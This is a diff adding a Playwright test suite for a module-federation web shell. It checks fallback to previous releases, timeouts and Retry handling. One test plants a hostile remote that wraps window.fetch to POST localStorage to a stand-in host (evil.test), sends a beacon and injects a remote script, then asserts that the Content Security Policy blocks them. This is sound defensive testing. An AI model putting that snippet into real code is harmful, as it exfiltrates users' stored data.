@@ -1,0 +1,213 @@
+import { controlClock, expectWithinQuietTime } from './clock';
+import { signIn, signInAs } from './fixtures';
+import { handMade, integrityOf, mirror, notice, publishNext, type Row, script, sorry } from './nextRelease';
+import { cards } from './parts';
+import { expect, type FaultyStack, test } from './proxy';
+
+// These releases throw.
+test.use({ expectErrors: true });
+
+const bad: Record<string, (faulty: FaultyStack) => Promise<void> | void> = {
+  'a missing entry': (faulty) => {
+    faulty.fault({ when: /\/next\//, answer: { status: 404 } });
+    publishNext(faulty, () => ({}));
+  },
+  'an entry that is a page': (faulty) => {
+    faulty.fault({ when: /\/next\//, answer: { status: 200, body: '<!doctype html>', type: 'text/html' } });
+    publishNext(faulty, () => ({}));
+  },
+  'a refused connection': (faulty) => {
+    faulty.fault({ when: /\/next\//, answer: 'refuse' });
+    publishNext(faulty, () => ({}));
+  },
+  'a changed entry': async (faulty) => {
+    await mirror(faulty, (file, text) => (file === 'remoteEntry.js' ? `${text} ` : text));
+    publishNext(faulty, () => ({}));
+  },
+  'a missing chunk': async (faulty) => {
+    await mirror(faulty, (file, text) => (file === 'remoteEntry.js' ? text : undefined));
+    publishNext(faulty, () => ({}));
+  },
+  'a changed chunk': async (faulty) => {
+    await mirror(faulty, (file, text) => (file === 'remoteEntry.js' ? text : `${text} `));
+    publishNext(faulty, () => ({}));
+  },
+  'needs that are too new': (faulty) => {
+    publishNext(faulty, ({ needs }) => ({ needs: { ...needs, contracts: { session: '^99.0.0' } } }));
+  },
+  'an origin that is not allowed': (faulty) => {
+    publishNext(faulty, () => ({ entry: 'http://localhost:9/remoteEntry.js' }));
+  },
+  'an entry that throws': (faulty) => {
+    const body = 'throw new Error("entry")';
+    faulty.fault({ when: /\/next\/remoteEntry\.js/, answer: { status: 200, body, type: script } });
+    publishNext(faulty, () => ({ integrity: integrityOf(body) }));
+  },
+  'an error on evaluation': (faulty) => handMade(faulty, 'throw new Error("evaluation")'),
+  'no page': (faulty) => handMade(faulty, 'return {}'),
+  'an error on mount': (faulty) => handMade(faulty, 'return { default() { throw new Error("mount") } }'),
+  'an error in an effect': (faulty) =>
+    handMade(
+      faulty,
+      'return { default() { React.useEffect(() => { throw new Error("effect") }); return "shown" } }',
+    ),
+};
+
+for (const [name, arrange] of Object.entries(bad)) {
+  test(`a release with ${name} is replaced by the previous one`, async ({ page, faulty }) => {
+    await arrange(faulty);
+    await page.goto('/');
+    await expect(cards(page).first()).toBeVisible();
+    await expect(page.getByText(notice)).toBeVisible();
+    await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
+    const tries = faulty.requests.filter(({ call }) => call.includes('/next/remoteEntry.js'));
+    // Prefetched, loaded, and fetched once more to find out what to report.
+    expect(tries.length).toBeLessThanOrEqual(3);
+  });
+}
+
+test('a release that never responds is replaced within 10 s', async ({ page, faulty }) => {
+  faulty.fault({ when: /\/next\//, answer: 'hang' });
+  publishNext(faulty, () => ({}));
+  await controlClock(page);
+  await page.goto('/', { waitUntil: 'commit' });
+  await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
+  await expectWithinQuietTime(page, 10, () => expect(cards(page).first()).toBeVisible({ timeout: 500 }));
+  await expect(page.getByText(notice)).toBeVisible();
+});
+
+test('a release whose code never responds is replaced within 10 s', async ({ page, faulty }) => {
+  await mirror(faulty, (_file, text) => text);
+  faulty.fault({ when: /\/next\/__federation_expose/, answer: 'hang' });
+  publishNext(faulty, ({ pages }) => ({ pages }));
+  await controlClock(page);
+  await page.goto('/', { waitUntil: 'commit' });
+  await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
+  await expectWithinQuietTime(page, 10, () => expect(cards(page).first()).toBeVisible({ timeout: 500 }));
+  await expect(page.getByText(notice)).toBeVisible();
+});
+
+test('code that never responds is reported within 10 s, and Retry loads it once it does', async ({
+  page,
+  faulty,
+}) => {
+  await controlClock(page);
+  await signInAs(page, 'owner');
+  await page.goto('/');
+  await expect(cards(page).first()).toBeVisible();
+  const hang = (file: RegExp) => faulty.fault({ when: file, answer: 'hang' });
+  const retry = () => page.getByRole('button', { name: 'Retry' }).click();
+
+  const endPage = hang(/\/__federation_expose_CategoriesPage/);
+  await page.getByRole('link', { name: 'Categories', exact: true }).click();
+  await expectWithinQuietTime(page, 10, () => expect(page.getByText(sorry)).toBeVisible({ timeout: 500 }));
+  endPage();
+  await retry();
+  await expect(page.getByRole('heading', { level: 1, name: 'Category Management' })).toBeVisible();
+
+  await page.goto('/subscriptions');
+  const subscribe = page.getByRole('button', { name: 'Subscribe to a Newsletter' });
+  await expect(subscribe).toBeVisible();
+  const endPart = hang(/\/\w+\.[0-9a-f]{12}\.js/);
+  await subscribe.click();
+  await expectWithinQuietTime(page, 10, () => expect(page.getByRole('alert')).toBeVisible({ timeout: 500 }));
+  endPart();
+  await retry();
+  await expect(page.getByRole('dialog', { name: 'Subscribe to a Newsletter' })).toBeVisible();
+});
+
+test('two crashing releases are tried once each and end in one message, while other pages work', async ({
+  page,
+  faulty,
+}) => {
+  const body =
+    'var remote_public = { init() {}, get: async () => () => ({ default() { throw new Error("mount") } }) };';
+  faulty.fault({ when: /\/next\/remoteEntry\.js/, answer: { status: 200, body, type: script } });
+  faulty.fault({
+    when: /GET \/remotes\.json/,
+    change: (text) => {
+      const registry = JSON.parse(text) as Record<string, Row[]>;
+      const real = registry.remote_public?.[0] as Row;
+      const next = (version: string) => ({
+        ...real,
+        version,
+        entry: real.entry.replace('/remoteEntry.js', `/next/remoteEntry.js?${version}`),
+        integrity: integrityOf(body),
+        pages: {},
+      });
+      return JSON.stringify({ ...registry, remote_public: [next('b'), next('a')] });
+    },
+  });
+  const entries = () => faulty.requests.filter(({ call }) => call.includes('/next/remoteEntry.js')).length;
+  await page.goto('/');
+  await expect(page.getByText(sorry)).toBeVisible();
+  // The newest one is also prefetched.
+  const tries = entries();
+  expect(tries).toBeLessThanOrEqual(3);
+  await signIn(page, 'owner@example.com');
+  await page.getByRole('link', { name: 'Users', exact: true }).click();
+  await expect(page.getByRole('heading', { level: 1, name: 'User Management' })).toBeVisible();
+  expect(entries()).toBe(tries);
+});
+
+test.describe(() => {
+  test.use({ expectViolations: true });
+
+  test('a remote that turns hostile cannot send anything to another host', async ({
+    page,
+    faulty,
+    violations,
+  }) => {
+    const sent: string[] = [];
+    page.on('requestfinished', (request) => sent.push(request.url()));
+    handMade(
+      faulty,
+      `const real = window.fetch;
+       window.fetch = (...all) => { real('https://evil.test/steal', { method: 'POST', body: JSON.stringify(localStorage) }).catch(() => {}); return real(...all); };
+       navigator.sendBeacon('https://evil.test/beacon', 'x');
+       const script = document.createElement('script'); script.src = 'https://evil.test/script.js'; document.head.append(script);
+       return { default: () => null }`,
+    );
+    await page.goto('/');
+    await page.getByRole('button', { name: 'Sign In' }).click();
+    await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
+    await page.evaluate(() => fetch('/config.json'));
+    const blocked = [
+      /'https:\/\/evil\.test\/steal' .*connect-src/,
+      /'https:\/\/evil\.test\/beacon' .*connect-src/,
+      /'https:\/\/evil\.test\/script\.js' .*script-src/,
+    ];
+    await expect
+      .poll(() => violations)
+      .toEqual(expect.arrayContaining(blocked.map((text) => expect.stringMatching(text))));
+    expect(sent.filter((url) => url.includes('evil.test'))).toEqual([]);
+  });
+});
+
+test('a part of the shell that could not be loaded can be retried', async ({ page, faulty }) => {
+  await page.goto('/');
+  await expect(cards(page).first()).toBeVisible();
+  const end = faulty.fault({ when: /GET \/[\w-]+\.[0-9a-f]{12}\.js/, answer: 'refuse' });
+  await page.getByRole('button', { name: 'Sign In' }).click();
+  await expect(page.getByText('This part of the page could not be loaded.')).toBeVisible();
+  end();
+  await page.getByRole('button', { name: 'Retry' }).click();
+  await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
+});
+
+test('when the retry fails too, Retry reloads the page', async ({ page, faulty }) => {
+  await page.goto('/');
+  await expect(cards(page).first()).toBeVisible();
+  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
+  const end = faulty.fault({ when: /GET \/[\w-]+\.[0-9a-f]{12}\.js/, answer: { status: 404 } });
+  await page.getByRole('button', { name: 'Sign In' }).click();
+  await expect(page.getByText('This part of the page could not be loaded.')).toBeVisible();
+  await page.getByRole('button', { name: 'Retry' }).click();
+  await expect(page.getByText('Press Retry to reload the page.')).toBeVisible();
+  expect(await page.evaluate(() => 'sameDocument' in window)).toBe(true);
+  end();
+  await page.getByRole('button', { name: 'Retry' }).click();
+  await expect.poll(() => page.evaluate(() => 'sameDocument' in window)).toBe(false);
+  await page.getByRole('button', { name: 'Sign In' }).click();
+  await expect(page.getByRole('dialog', { name: 'Sign In' })).toBeVisible();
+});
